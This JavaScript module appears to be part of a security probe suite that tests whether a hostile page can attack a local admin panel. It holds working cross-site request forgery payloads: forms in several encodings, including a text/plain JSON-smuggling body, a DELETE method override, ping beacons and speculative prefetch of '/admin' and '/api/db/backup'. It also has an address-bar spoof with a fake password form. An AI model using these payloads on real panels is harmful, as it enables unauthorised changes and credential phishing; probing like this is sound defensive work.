import { afterMs, fillPath, grab, grabAll } from './loot.js';

/** Group 8: forms, downloads, `ping` attributes and speculative loads. */
export function leavePage({ operations, panelOrigin }) {
  const changing = operations.filter(({ method }) => method !== 'GET');
  const reading = operations.filter(({ method, kind }) => method === 'GET' && kind === 'http');
  return grabAll([
    ...changing.map(({ path }) => [`form to ${path}`, () => submitForms(panelOrigin + fillPath(path))]),
    ['form that names a method', () => submitForms(`${panelOrigin}/api/nodes/1?_method=DELETE`)],
    ...reading.map(({ path }) => [
      `download of ${path}`,
      () => withFrame((target) => click({ href: panelOrigin + fillPath(path), download: 'loot', target })),
    ]),
    [
      'pings',
      () => click({ href: '#', ping: changing.map(({ path }) => panelOrigin + fillPath(path)).join(' ') }),
    ],
    ['rules', () => speculate([`${panelOrigin}/admin`, `${panelOrigin}/api/db/backup`])],
  ]);
}

let frames = 0;

/**
 * Runs an attempt with a frame of its own, and removes the frame when it has loaded. In one frame for all of them, a form that
 * is submitted while the response to another arrives crashes the renderer of Chromium 156, after which nothing is attempted.
 */
async function withFrame(attempt) {
  const frame = document.createElement('iframe');
  frames += 1;
  frame.name = `sink-${frames}`;
  document.body.append(frame);
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
  const result = await attempt(frame.name);
  await Promise.race([loaded, afterMs(100)]);
  frame.remove();
  return result;
}

async function submitForms(action) {
  const form = document.createElement('form');
  const field = form.appendChild(document.createElement('input'));
  const button = form.appendChild(document.createElement('button'));
  Object.assign(form, { action, method: 'post' });
  button.formAction = action;
  document.body.append(form);
  const submitAs = (enctype, submit) => (target) => {
    field.name = enctype === 'text/plain' ? '{"name":"taken over","x":"' : 'name';
    field.value = enctype === 'text/plain' ? '"}' : 'taken over';
    Object.assign(form, { enctype, target });
    submit();
  };
  const submissions = [
    submitAs('application/x-www-form-urlencoded', () => form.submit()),
    submitAs('multipart/form-data', () => form.submit()),
    submitAs('text/plain', () => form.submit()),
    submitAs('text/plain', () => form.requestSubmit(button)),
  ];
  await Promise.all(submissions.map(withFrame));
  return `still at ${location.pathname}`;
}

async function click(attributes) {
  const link = document.createElement('a');
  for (const [name, value] of Object.entries(attributes)) link.setAttribute(name, value);
  document.body.append(link);
  link.click();
  await afterMs(60);
  return `still at ${location.pathname}`;
}

async function speculate(urls) {
  for (const kind of ['prefetch', 'prerender']) {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ [kind]: [{ source: 'list', urls, eagerness: 'immediate' }] });
    document.head.append(script);
    const link = document.head.appendChild(document.createElement('link'));
    Object.assign(link, { rel: 'prefetch', href: urls[0] });
  }
  await afterMs(500);
  const entries = performance
    .getEntriesByType('resource')
    .map(({ name, transferSize }) => `${name} ${transferSize}`);
  return entries.filter((entry) => entry.includes('/admin')).join(' ');
}

/** Group 9: spoofs the panel's URL in the address bar. */
export async function pretendToBePanel() {
  return [
    await grab('pretence', async () => {
      history.pushState({ csrfToken: 'x' }, '', '/admin/login');
      document.body.innerHTML = '<form><input name="username"><input name="password" type="password"></form>';
      return location.pathname;
    }),
  ];
}
